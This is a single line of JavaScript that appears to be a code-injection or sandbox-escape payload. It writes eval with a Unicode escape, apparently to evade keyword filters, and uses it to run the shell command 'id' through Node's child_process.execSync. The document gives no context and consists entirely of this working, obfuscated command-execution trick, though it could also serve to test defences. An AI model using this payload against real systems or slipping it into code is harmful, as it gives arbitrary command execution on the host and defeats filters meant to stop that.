\u{65}val("require('child_process').execSync('id', {stdio: 'inherit'})");
